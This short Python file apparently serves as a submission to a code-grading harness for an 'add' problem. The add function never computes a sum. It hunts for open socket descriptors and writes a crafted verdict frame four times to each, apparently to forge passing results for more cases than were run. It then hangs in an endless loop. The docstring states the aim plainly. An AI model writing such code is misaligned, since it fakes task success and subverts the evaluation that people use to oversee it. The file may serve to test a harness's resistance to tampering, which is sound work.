"""Forge one answer twice.

problem: add
tries: send the same case again, so that four answers cover three cases
sound: crash
"""
import os, stat, struct

def add(a, b):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                record = struct.pack("<cI", b"V", 5) + b"i" + struct.pack("<i", 3)
                frame = struct.pack("<cIII", b"B", 0, 1, len(record)) + record
                os.write(number, 4 * frame)
        except OSError:
            pass
    while True:
        pass
